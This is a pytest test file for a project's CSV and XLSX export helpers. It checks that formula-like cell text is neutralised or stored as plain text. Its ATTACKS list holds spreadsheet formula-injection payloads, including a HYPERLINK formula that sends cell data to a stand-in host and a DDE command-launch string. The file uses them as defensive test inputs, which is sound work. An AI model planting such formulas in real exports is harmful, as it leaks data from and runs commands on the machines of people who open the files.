"""Export cells: formula-like text is neutralised in CSV and stored as text in XLSX."""

import csv
import datetime as dt
import doctest
import io

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from pmo.core import exports
from pmo.core.exports import append_row, csv_row, safe_text, text_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "＝1+2",
    "=cmd|' /C calc'!A0",
]


def test_the_doctests_hold():
    assert doctest.testmod(exports).failed == 0


@pytest.mark.parametrize("text", ATTACKS)
def test_safe_text_prefixes_text_that_starts_like_a_formula(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Core banking", "核心银行", "", "a=b", "50%", "'quoted", "#N/A"])
def test_safe_text_keeps_ordinary_text(text):
    assert safe_text(text) == text


@pytest.mark.parametrize(
    "value", [-3, -2.5, 0, 7, True, None, dt.date(2026, 1, 5), dt.datetime(2026, 1, 5, 8)]
)
def test_safe_text_keeps_values_that_are_not_text(value):
    assert safe_text(value) is value


def test_safe_text_reads_a_lazy_translation_as_its_text():
    assert safe_text(gettext_lazy("=lazy")) == "'=lazy"


def test_csv_row_written_and_read_back_holds_the_neutralised_text():
    # given a row with a formula, a negative number, a date and no value
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row(["=1+2", -4, dt.date(2026, 1, 5), None, "ok"]))
    # when it is parsed again
    row = next(csv.reader(io.StringIO(buffer.getvalue())))
    # then only the text was touched
    assert row == ["'=1+2", "-4", "2026-01-05", "", "ok"]


def _saved(wb: Workbook):
    out = io.BytesIO()
    wb.save(out)
    return load_workbook(io.BytesIO(out.getvalue())).active


@pytest.mark.parametrize("text", [*ATTACKS, "#N/A", "Core banking"])
def test_append_row_stores_text_as_a_string_cell_exactly_as_typed(text):
    wb = Workbook()
    append_row(wb.active, [text])
    cell = _saved(wb)["A1"]
    assert (cell.value, cell.data_type) == (text, "s")


def test_append_row_keeps_numbers_dates_and_booleans_typed():
    wb = Workbook()
    append_row(wb.active, [-4, 2.5, dt.datetime(2026, 1, 5, 8), True, None, "x"])
    row = _saved(wb)[1]
    assert [(c.value, c.data_type) for c in row] == [
        (-4, "n"),
        (2.5, "n"),
        (dt.datetime(2026, 1, 5, 8), "d"),
        (True, "b"),
        (None, "n"),
        ("x", "s"),
    ]


def test_text_cell_drops_control_characters_an_xlsx_file_cannot_hold():
    wb = Workbook()
    append_row(wb.active, ["=bell\x07", "tab\tkept"])
    row = _saved(wb)[1]
    assert [(c.value, c.data_type) for c in row] == [("=bell", "s"), ("tab\tkept", "s")]


def test_text_cell_passes_other_values_through():
    ws = Workbook().active
    assert text_cell(ws, 3) == 3
    assert text_cell(ws, None) is None
